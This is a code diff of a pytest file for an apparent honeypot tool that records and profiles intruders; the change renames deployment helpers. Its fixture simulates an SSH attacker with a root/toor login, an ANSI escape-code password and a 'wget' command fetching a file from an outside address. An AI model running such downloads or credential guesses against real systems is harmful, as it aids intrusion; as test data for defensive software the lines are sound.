@@ -8,7 +8,7 @@ from collections.abc import Callable
 import pytest
 from said import Run
 
-from decnet.fleet.selection import Place, records
+from decnet.fleet.deployment import Deployment, transaction
 from decnet_core.events.catalogue import CommandRun, LoginAttempt, SessionClosed, SessionOpened
 from decnet_core.runtime.worker import NoSettings
 from decnet_models.events.queries import events_after
@@ -17,7 +17,7 @@ from decnet_workers.profiler.worker import Profiler
 
 
 @pytest.fixture
-def _intruder(place: Place, store: Callable[..., None]) -> None:
+def _intruder(deployment: Deployment, store: Callable[..., None]) -> None:
     store(
         LoginAttempt(service="ssh", username="root", password="\x1b[31mred", success=False),
         LoginAttempt(service="ssh", username="root", password="toor", success=True),
@@ -25,7 +25,7 @@ def _intruder(place: Place, store: Callable[..., None]) -> None:
         CommandRun(service="ssh", command="wget http://198.51.100.1/x"),
         SessionClosed(service="ssh", duration_ms=4200, commands=1, recording="ab" * 32),
     )
-    with records(place, write=True) as connection:
+    with transaction(deployment, write=True) as connection:
         Profiler(NoSettings()).handle(EventBatch(connection, events_after(connection, 0, 100)))
 
 
@@ -53,17 +53,17 @@ def test_attacker_document_has_everything(run: Run) -> None:
     assert {"sessions", "credentials", "commands", "techniques", "canary_hits"} <= set(found)
 
 
-def test_unknown_address_is_not_found(run: Run, place: Place) -> None:
+def test_unknown_address_is_not_found(run: Run, deployment: Deployment) -> None:
     said = run("attacker", "192.0.2.99")
     assert said.code == 1
     assert "never seen" in said.err
 
 
-def test_what_is_no_address_is_said(run: Run, place: Place) -> None:
+def test_what_is_no_address_is_said(run: Run, deployment: Deployment) -> None:
     said = run("attacker", "not-an-address")
     assert said.code == 2
     assert said.err == "decnet: 'not-an-address' is not an IPv4 or IPv6 address\n"
 
 
-def test_nobody_yet(run: Run, place: Place) -> None:
+def test_nobody_yet(run: Run, deployment: Deployment) -> None:
     assert run("attackers").out == "nobody yet\n"
